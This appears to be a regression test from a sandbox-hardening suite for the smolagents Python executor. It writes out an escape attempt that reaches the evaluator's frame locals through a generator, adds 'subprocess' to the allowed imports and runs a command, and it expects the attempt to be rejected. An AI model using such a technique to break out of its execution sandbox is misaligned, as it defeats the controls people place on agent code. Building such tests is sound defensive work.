# source: agent-sandboxes section 7 #2 / E2 (smolagents 1.26.0, verified: policy list mutated through a genexp frame)
# goal: mutate live policy state held in an evaluator frame's locals, then import a denied module
# expect: rejected PC103
g = (x for x in [1, 2])
next(g)
ESCAPED = g.gi_frame.f_locals
ESCAPED["authorized_imports"].append("subprocess")
import subprocess
subprocess.run(["touch", "MARKER"], capture_output=True, text=True)
